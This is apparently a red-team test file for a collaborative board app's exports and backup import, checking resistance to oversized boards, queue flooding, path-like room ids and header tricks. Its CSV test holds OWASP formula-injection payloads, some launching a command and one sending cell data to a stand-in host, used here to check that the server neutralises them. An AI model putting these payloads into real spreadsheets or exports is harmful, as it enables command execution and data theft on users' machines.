import { spawnSync } from 'node:child_process';
import { mkdtempSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import {
  createFrame,
  createLabel,
  createNote,
  groupNotes,
  setCategories,
} from '@essaim/shared';
import { pdfInfo, pdfText, writeTemp } from '../src/report/poppler.js';
import { bigBoard, download, expectDownloadError, facilitatorEdit, importBackup, percentile, type Download } from './exportScene.js';
import { waitFor, whenSynced } from './providers.js';
import {
  baseBackup,
  boardOf,
  ctx,
  databaseBytes,
  causeLink,
  craftBackup,
  importRooms,
  loopWhile,
  plainNote,
  PLENARY_ID,
  pngSize,
  redServer,
  statusOf,
  timedExport,
  writeInBatches,
} from './redTeamExportsScene.js';
import { writeNotes } from './voteScene.js';
import { openWorkshop } from './workshopScene.js';

/**
 * Red team of issue 14 (exports and import): someone with a join code or a facilitator's or
 * observer's token and a client of their own making, and anyone at all with a backup file of their
 * own writing (the import needs no token). Each test is what the server must do; those that fail
 * today are named in the report (server/src is not ours to change).
 */

describe('what a participant writes on a live board, exported by the facilitator', () => {
  it('draws notes of 2,000 characters without a space in seconds, not for a minute each', async () => {
    const scene = await openWorkshop({ rooms: 1, assignment: 'choice' }, await redServer());
    const { server, workshop } = scene;
    const roomId = scene.breakouts[0]!.id;
    const lina = await scene.join('Lina', roomId);
    const words = ['anticonstitutionnellement', 'intercommunalité', 'développement'];
    await writeNotes(scene, lina, roomId, words.map((word, i) => ({ id: `mot-${i}`, x: i * 200, y: 0, text: word.repeat(200).slice(0, 2000) })));
    const [png, pdf] = await Promise.all([
      timedExport(server, workshop, 'png', workshop.facilitatorToken, 20_000, '', roomId),
      timedExport(server, workshop, 'pdf', workshop.facilitatorToken, 20_000, `rooms=${roomId}`),
    ]);
    console.log(`3 notes of one 2,000-character word: PNG ${png.status} in ${png.ms} ms, PDF ${pdf.status} in ${pdf.ms} ms`);
    expect([png.status, pdf.status]).toEqual([200, 200]);
  }, 60_000);

  it('reports a board where one cause leads to 8,000 problems in seconds (problem trees are not read once per problem)', async () => {
    const scene = await openWorkshop({ rooms: 1, assignment: 'choice' }, await redServer());
    const { server, workshop } = scene;
    const roomId = scene.breakouts[0]!.id;
    const lina = await scene.join('Lina', roomId);
    const n = 8000;
    const mine = { authorId: lina.participantId };
    const entries = [
      { map: 'notes' as const, value: plainNote('cause', 0, -200, { ...mine, text: 'Cause commune' }) },
      ...Array.from({ length: n }, (_, i) => ({ map: 'notes' as const, value: plainNote(`p${i}`, (i % 100) * 70, Math.floor(i / 100) * 70, { ...mine, text: `P${i}`, width: 60, height: 60 }) })),
      ...Array.from({ length: n }, (_, i) => ({ map: 'links' as const, value: causeLink(`l${i}`, 'cause', `p${i}`) })),
    ];
    await writeInBatches(scene, roomId, scene.connect(scene.board(roomId), lina.token), entries);
    const csv = await timedExport(server, workshop, 'csv', workshop.facilitatorToken, 10_000);
    console.log(`one cause of ${n} problems, written by a participant: CSV ${csv.status} in ${csv.ms} ms`);
    expect(csv.status).toBe(200);
  }, 90_000);

  it('prints a problem tree whose 10,000-note cause subtree 20 problems share, without running the worker out of memory', async () => {
    // a participant's own notes and links (links are free to write); imported here to save the writing time
    const server = await redServer();
    const causes = 10_000;
    const problems = 20;
    const notes = [
      plainNote('racine', 0, -300, { text: 'Cause racine' }),
      ...Array.from({ length: causes }, (_, i) => plainNote(`c${i}`, (i % 100) * 70, 200 + Math.floor(i / 100) * 70, { width: 60, height: 60, text: `Cause ${i}` })),
      ...Array.from({ length: problems }, (_, i) => plainNote(`p${i}`, i * 70, -600, { width: 60, height: 60, text: `Problème ${i}` })),
    ];
    const links = [...Array.from({ length: causes }, (_, i) => causeLink(`lc${i}`, `c${i}`, 'racine')), ...Array.from({ length: problems }, (_, i) => causeLink(`lp${i}`, 'racine', `p${i}`))];
    const made = await importRooms(server, [{ id: PLENARY_ID, board: { notes, links } }]);
    const pdf = await loopWhile(() => timedExport(server, made, 'pdf', made.facilitatorToken, 45_000));
    console.log(`${problems} problems sharing a ${causes}-note cause tree: PDF ${pdf.result.status} in ${pdf.result.ms} ms, peak RSS ${pdf.peakRssMb} MB ${pdf.result.text.slice(0, 120)}`);
    expect(pdf.result.status).toBe(200);
  }, 90_000);

  it('draws 1,000 cause links across ±1,000,000 as a PNG in seconds, and as a PDF a reader can show (dashes at the overview’s scale)', async () => {
    const scene = await openWorkshop({ rooms: 1, assignment: 'choice' }, await redServer());
    const { server, workshop } = scene;
    const roomId = scene.breakouts[0]!.id;
    const lina = await scene.join('Lina', roomId);
    const mine = { authorId: lina.participantId };
    const entries = [
      { map: 'notes' as const, value: plainNote('coin-a', -1_000_000, -1_000_000, mine) },
      { map: 'notes' as const, value: plainNote('coin-b', 999_840, 999_840, mine) },
      ...Array.from({ length: 1000 }, (_, i) => ({ map: 'links' as const, value: causeLink(`trait-${i}`, 'coin-a', 'coin-b') })),
    ];
    await writeInBatches(scene, roomId, scene.connect(scene.board(roomId), lina.token), entries);
    const problems: string[] = [];
    // the PDF is made quickly; its board page is what a reader (poppler here) must draw
    const pdf = await timedExport(server, workshop, 'pdf', workshop.facilitatorToken, 30_000, `rooms=${roomId}`);
    expect(pdf.status, pdf.text).toBe(200);
    const started = performance.now();
    const shown = spawnSync('pdftoppm', ['-r', '40', '-f', '2', '-l', '2', '-png', writeTemp(pdf.body), join(mkdtempSync(join(tmpdir(), 'essaim-red-')), 'page')], { timeout: 15_000 });
    const readerMs = Math.round(performance.now() - started);
    if (shown.status !== 0) problems.push(`pdftoppm did not draw the board page within 15 s (${shown.signal ?? shown.status})`);
    const png = await timedExport(server, workshop, 'png', workshop.facilitatorToken, 15_000, 'scale=4', roomId);
    if (png.status !== 200) problems.push(`PNG: ${png.status} after ${png.ms} ms`);
    console.log(`1,000 dashed links across the board: PDF made in ${pdf.ms} ms, drawn by pdftoppm in ${readerMs} ms (${shown.status === 0 ? 'done' : 'stopped'}); PNG ${png.status} in ${png.ms} ms`);
    expect(problems).toEqual([]);
  }, 90_000);

  it('keeps a board spanning ±1,000,000 with 2,000 stacked notes, a 20,000-wide zone and a 200-character heading at font 200 within the page and pixel limits', async () => {
    const server = await redServer();
    const board = boardOf((doc) => {
      createFrame(doc, { id: 'immense', x: -10_000, y: -10_000, width: 20_000, height: 20_000, title: 'Zone immense '.repeat(9) });
      createLabel(doc, { id: 'titre', text: 'TITRE'.repeat(40), x: 20_000, y: 0, fontSize: 200 });
      for (let i = 0; i < 2000; i++) createNote(doc, { id: `pile-${i}`, x: 5, y: 5, text: `Empilée ${i}` }, ctx);
      createNote(doc, { id: 'coin-a', x: -1_000_000, y: -1_000_000, text: 'Coin nord-ouest' }, ctx);
      createNote(doc, { id: 'coin-b', x: 999_840, y: 999_840, text: 'Coin sud-est' }, ctx);
    });
    const made = await importRooms(server, [{ id: PLENARY_ID, board }]);
    const png = await timedExport(server, made, 'png', made.facilitatorToken, 30_000, 'scale=4');
    expect(png.status, png.text).toBe(200);
    const size = pngSize(png.body);
    expect(Math.max(size.width, size.height)).toBeLessThanOrEqual(8192);
    expect(Number(png.headers!.get('x-essaim-scale'))).toBeLessThan(0.005);
    const pdf = await timedExport(server, made, 'pdf', made.facilitatorToken, 30_000);
    expect(pdf.status, pdf.text).toBe(200);
    const file = writeTemp(pdf.body);
    const pages = Number(pdfInfo(file).Pages);
    const parts = (pdfText(file).match(/Partie \d+ sur \d+/g) ?? []).length;
    console.log(`±1,000,000 board: PNG ${size.width}×${size.height} in ${png.ms} ms; PDF ${pages} pages (${parts} parts) in ${pdf.ms} ms`);
    expect(parts).toBeLessThanOrEqual(40);
    expect(pdfText(file)).toContain('Coin sud-est');
  }, 90_000);
});

describe('access and parameters', () => {
  it('answers a removed co-facilitator’s token 401 on every export, and a path-like room id 404', async () => {
    const scene = await openWorkshop({ rooms: 1 }, await redServer());
    const { server, workshop } = scene;
    const co = await scene.invite('facilitator', 'Co-animation');
    expect((await download(server, workshop, 'csv', co.token)).status).toBe(200);
    expect((await scene.admin('DELETE', `/participants/${co.participantId}`)).status).toBe(204);
    for (const kind of ['pdf', 'png', 'csv', 'json'] as const) expectDownloadError(await download(server, workshop, kind, co.token), 401, 'unauthorized');
    for (const room of ['..%2F..%2Fexport.json', '__proto__', 'constructor', `${scene.plenary.id}%2F..%2F${scene.plenary.id}`]) {
      const got = await fetch(`${server.url}/api/workshops/${workshop.workshopId}/rooms/${room}/export.png`, { headers: { authorization: `Bearer ${workshop.facilitatorToken}` } });
      expect(got.status, room).toBe(404);
    }
  });

  it('answers a repeated query parameter with a 400 naming it, never a 500', async () => {
    const scene = await openWorkshop({ rooms: 1 }, await redServer());
    const { server, workshop } = scene;
    const p = scene.plenary.id;
    const cases: [Parameters<typeof download>[2], string][] = [
      ['pdf', 'paper=a4&paper=a3'],
      ['pdf', 'lang=fr&lang=en'],
      ['csv', 'sep=%3B&sep=,'],
      ['pdf', `rooms=${p}&rooms=${p}`],
      ['png', 'scale=1&scale=2'],
    ];
    const wrong: string[] = [];
    for (const [kind, query] of cases) {
      const got = await download(server, workshop, kind, workshop.facilitatorToken, query);
      if (got.status !== 400 || (got.json as { error?: { code: string } }).error?.code !== 'invalid_request') wrong.push(`${kind}?${query} → ${statusOf(got)}`);
    }
    expect(wrong).toEqual([]);
  });
});

describe('CSV cells and download names', () => {
  it('neutralises OWASP formula payloads in every column a person can write: names, rooms, zones, clusters, categories, notes', async () => {
    const scene = await openWorkshop({ rooms: 1, assignment: 'choice' }, await redServer());
    const { server, workshop } = scene;
    const roomId = scene.breakouts[0]!.id;
    expect((await scene.admin('PATCH', `/rooms/${roomId}`, { name: '=HYPERLINK("http://x.invalid","Salle")' })).status).toBe(200);
    const lina = await scene.join(`=cmd|' /C calc'!A0`, roomId);
    const payloads = [
      `=cmd|' /C calc'!A0`,
      `@SUM(1+1)*cmd|' /C calc'!A0`,
      `+1+cmd|' /C calc'!A0`,
      `-1+1|cmd|' /C calc'!A0`,
      '=IMPORTXML(CONCAT("http://x.invalid/?", A1), "//a")',
      '\t=1+1',
      '\r=1+1',
      '\n=1+1',
      '\u00a0=1+1',
      '\u3000+1',
      ' \r\n @A1',
    ];
    await writeNotes(scene, lina, roomId, payloads.map((text, i) => ({ id: `f-${i}`, x: 100 + i * 10, y: 100, text })));
    await facilitatorEdit(scene, roomId, (doc) => {
      createFrame(doc, { id: 'zone', x: 0, y: 0, width: 2000, height: 600, title: '=1+2' });
      setCategories(doc, [{ id: 'cat', name: '-3+4', color: 'blue' }]);
      groupNotes(doc, { id: 'grp', title: '@SOMME(A1:A9)', noteIds: ['f-0', 'f-1'] }, Date.now());
    });
    const rows = parse((await download(server, workshop, 'csv', workshop.facilitatorToken)).bytes, { bom: true, delimiter: ';' }) as string[][];
    expect(rows).toHaveLength(payloads.length + 1);
    expect(rows.flat().filter((cell) => /^\s*[=+\-@\t\r]/.test(cell))).toEqual([]);
    expect(new Set(rows.slice(1).map((r) => r[4]!))).toEqual(new Set(payloads.map((p) => `'${p}`)));
    for (const cell of ['=HYPERLINK("http://x.invalid","Salle")', '=1+2', "=cmd|' /C calc'!A0"]) expect(rows.flat()).toContain(`'${cell}`);
  });

  it('names downloads with one quoted ASCII filename and one encoded filename*, whatever the title holds', async () => {
    const scene = await openWorkshop({}, await redServer());
    const { server, workshop } = scene;
    const titles = ['Bilan "final"; filename=virus.exe', 'a\\b/c:d*e?f<g>h|i', `${'Très long titre '.repeat(7)}`.trim().slice(0, 120), 'عنوان الورشة — ورشة'];
    for (const title of titles) {
      expect((await scene.admin('PATCH', '', { title })).status, title).toBe(200);
      const got = await download(server, workshop, 'csv', workshop.facilitatorToken);
      const header = got.headers.get('content-disposition')!;
      expect(header, title).toMatch(/^attachment; filename="[\x20\x21\x23-\x5b\x5d-\x7e]{1,104}"; filename\*=UTF-8''[A-Za-z0-9%!#$&+.^_`|~-]+$/);
      const name = decodeURIComponent(/filename\*=UTF-8''(.+)$/.exec(header)![1]!);
      expect(name.endsWith('.csv')).toBe(true);
      expect(name.length).toBeLessThanOrEqual(104);
      expect(name).not.toMatch(/[\\/:*?"<>|\u0000-\u001f]/);
    }
  });
});

describe('sharing the export workers', () => {
  it('serves another workshop’s export while one workshop’s facilitators fill the queue', async () => {
    const server = await redServer();
    // a board whose CSV takes seconds to make (one cause of 5,000 problems)
    const n = 5000;
    const notes = [plainNote('cause', 0, -200), ...Array.from({ length: n }, (_, i) => plainNote(`p${i}`, (i % 100) * 70, Math.floor(i / 100) * 70, { width: 60, height: 60 }))];
    const links = Array.from({ length: n }, (_, i) => causeLink(`l${i}`, 'cause', `p${i}`));
    const heavy = await importRooms(server, [{ id: PLENARY_ID, board: { notes, links } }]);
    const victim = await openWorkshop({ title: 'Atelier voisin' }, server);
    // the attacker's facilitator token and one co-facilitator (any number can be invited)
    const co = (await (await fetch(`${server.url}/api/join`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ invite: heavy.invites.facilitator, name: 'Complice' }) })).json()) as { token: string };
    const stop = new AbortController();
    let busy = false;
    const flood = Array.from({ length: 30 }, (_, i) =>
      timedExport(server, heavy, 'csv', i % 2 ? co.token : heavy.facilitatorToken, 120_000, '', PLENARY_ID, stop.signal).then((a) => {
        if (a.status === 503) busy = true;
        return a;
      }),
    );
    // the queue is full once the first of them is turned away
    await waitFor(() => busy, 20_000, 'the export queue to be full');
    const theirs = await timedExport(server, victim.workshop, 'csv', victim.workshop.facilitatorToken, 45_000, '', victim.plenary.id);
    // the flood's own answers so far; the rest are dropped (the server stops their tasks when it closes)
    stop.abort();
    const statuses = (await Promise.all(flood)).map((a) => a.status);
    console.log(`one workshop's 30 CSV exports (two facilitators): ${statuses.filter((s) => s === 503).length} answered export_busy at once; the other workshop's CSV: ${theirs.status} in ${theirs.ms} ms`);
    expect(theirs.status, theirs.text).toBe(200);
  }, 200_000);
});

describe('stress figures', () => {
  it('prints what many facilitators exporting 2,000-note PDFs, huge PNGs and 30 MB imports cost, and keeps the server answering', async () => {
    const server = await redServer();
    const figures: string[] = [];
    const rss = () => Math.round(process.memoryUsage().rss / 2 ** 20);
    const start = rss();

    // idle: the first export starts the worker (fonts, pdfkit, canvas, the sources through tsx)
    const small = await openWorkshop({ rooms: 1, assignment: 'choice' }, server);
    const first = await loopWhile(() => timedExport(server, small.workshop, 'csv', small.workshop.facilitatorToken, 30_000));
    figures.push(`RSS ${start} MB before any export, ${rss()} MB with the worker started (first CSV ${first.result.ms} ms)`);

    // five facilitators, four 2,000-note PDFs each, while a room relays live edits
    await bigBoard(small, small.plenary.id, 2000);
    const tokens = [small.workshop.facilitatorToken];
    for (let i = 1; i < 5; i++) tokens.push((await small.invite('facilitator', `Co ${i}`)).token);
    const roomId = small.breakouts[0]!.id;
    const [lina, marc] = [await small.join('Lina', roomId), await small.join('Marc', roomId)];
    const writer = small.connect(small.board(roomId), lina.token);
    const reader = small.connect(small.board(roomId), marc.token);
    await Promise.all([whenSynced(writer), whenSynced(reader)]);
    let exporting = true;
    const relay: number[] = [];
    const live = (async () => {
      for (let i = 0; exporting; i++) {
        const t = performance.now();
        createNote(writer.doc, { id: `direct-${i}`, x: i * 10, y: 0, text: `En direct ${i}` }, { authorId: lina.participantId, now: Date.now() });
        await waitFor(() => reader.doc.getMap('notes').has(`direct-${i}`), 10_000, 'a live note');
        relay.push(performance.now() - t);
        await new Promise((r) => setTimeout(r, 50));
      }
    })();
    const pdfs = await loopWhile(async () => {
      const all = await Promise.all(tokens.flatMap((token) => Array.from({ length: 4 }, () => timedExport(server, small.workshop, 'pdf', token, 180_000, `rooms=${small.plenary.id}`))));
      exporting = false;
      await live;
      return all;
    });
    const made = pdfs.result.filter((a) => a.status === 200);
    figures.push(
      `20 PDFs of 2,000 notes by 5 facilitators: ${made.length} made (slowest ${Math.max(...made.map((a) => a.ms))} ms, ${Math.round((made[0]?.bytes ?? 0) / 1024)} KB each), ` +
        `${pdfs.result.filter((a) => a.status === 503).length} export_busy, others ${pdfs.result.filter((a) => a.status !== 200 && a.status !== 503).map((a) => a.status).join(',') || 'none'}; ` +
        `event loop held ≤ ${pdfs.maxLagMs} ms; live relay p50 ${percentile(relay, 50)} ms, p99 ${percentile(relay, 99)} ms over ${relay.length} edits; peak RSS ${pdfs.peakRssMb} MB`,
    );
    expect(made.length).toBeGreaterThan(0);
    expect(pdfs.result.every((a) => a.status === 200 || a.status === 503)).toBe(true);
    expect(percentile(relay, 99)).toBeLessThan(1000);

    // the largest PNG: a board spanning ±1,000,000 at scale 4 is lowered to 8,192 px a side
    const wide = await importRooms(server, [{ id: PLENARY_ID, board: { notes: [plainNote('a', -1_000_000, -1_000_000), plainNote('b', 999_840, 999_840)] } }]);
    const png = await loopWhile(() => timedExport(server, wide, 'png', wide.facilitatorToken, 60_000, 'scale=4'));
    const size = png.result.status === 200 ? pngSize(png.result.body) : { width: 0, height: 0 };
    figures.push(`PNG of a ±1,000,000 board at scale=4: ${png.result.status}, ${size.width}×${size.height} px, ${png.result.bytes} bytes, ${png.result.ms} ms, peak RSS ${png.peakRssMb} MB`);
    expect(Math.max(size.width, size.height)).toBeLessThanOrEqual(8192);

    // 30 MB imports back to back: a real backup padded with notes up to the board limit in six rooms
    const base = await baseBackup(server);
    const rooms = Array.from({ length: 8 }, (_, r) => ({
      id: r === 0 ? PLENARY_ID : `salle-${r}`,
      board: { notes: r === 0 ? [] : Array.from({ length: 11_000 }, (_, i) => plainNote(`n${r}-${i}`, (i % 100) * 200, Math.floor(i / 100) * 200, { text: `Idée ${i} : ${'un texte de longueur moyenne, '.repeat(8)}` })) },
    }));
    const big = JSON.stringify(craftBackup(base, { rooms }));
    const diskBefore = databaseBytes(server);
    const imports = await loopWhile(async () => {
      const out: Download[] = [];
      for (let i = 0; i < 3; i++) out.push(await importBackup(server, big));
      return out;
    });
    figures.push(
      `3 imports of ${(big.length / 2 ** 20).toFixed(1)} MB back to back: ${imports.result.map((a) => a.status).join(', ')}; event loop held ≤ ${imports.maxLagMs} ms; peak RSS ${imports.peakRssMb} MB; ` +
        `the database grew ${Math.round((databaseBytes(server) - diskBefore) / 2 ** 20)} MB, ` +
        `database ${Math.round(databaseBytes(server) / 2 ** 20)} MB on disk`,
    );
    const health = await fetch(`${server.url}/healthz`);
    expect(health.status).toBe(200);
    figures.push(`RSS at the end: ${rss()} MB`);
    console.log(figures.join('\n'));
  }, 400_000);
});
